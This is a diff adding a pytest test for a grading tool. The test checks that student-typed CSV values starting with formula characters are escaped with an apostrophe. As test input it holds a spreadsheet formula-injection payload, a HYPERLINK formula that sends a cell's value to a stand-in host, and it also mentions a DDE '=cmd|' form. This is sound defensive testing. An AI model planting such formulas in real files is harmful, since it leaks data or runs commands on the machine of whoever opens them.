@@ -227,3 +227,27 @@ def test_a_direction_of_a_few_turns_is_still_read():
 
     assert read_answer("-3546.22°", dimension="angle", unit="deg").value == pytest.approx(math.radians(-3546.22))
     assert read_answer("12 N @ 720 deg", dimension="force", unit="N").vector == pytest.approx((12.0, 0.0))
+
+
+# -- A class table opened in a spreadsheet: text a student typed is never a formula -------------------------------
+
+
+def test_an_id_typed_as_a_formula_is_text_in_the_class_table(capsys, tmp_path):
+    """The regrade's CSV put the id a notebook carries in the student column as typed: `=HYPERLINK(...)` (or
+    `=cmd|...`) became a formula when the teacher opened grades.csv in a spreadsheet. A cell of the student's text
+    that begins as a formula does is now written with a leading apostrophe, as spreadsheets keep text."""
+    import csv as csv_module
+    import io
+
+    from graphkin.cli import main
+    from graphkin.exercises.roster import spreadsheet_text
+
+    evil = '=HYPERLINK("http://example.invalid/?"&A1,"s1")'
+    nb = _notebook(tmp_path / "evil.ipynb", [f"STUDENT = {evil!r}", 'T12 = "+1 N*m"'])
+    code = main(["exercise", "grade", "single_link", "--secret", "k", "--answers", str(nb)])
+    out, err = capsys.readouterr()
+    assert code == 0, err
+    rows = list(csv_module.DictReader(io.StringIO(out)))
+    assert rows[0]["student"] == "'" + evil
+    assert [spreadsheet_text(t) for t in ("s1", "-", "+1", "@x", "\t=1", "a=b", 3.5)] == \
+        ["s1", "'-", "'+1", "'@x", "'\t=1", "a=b", 3.5]
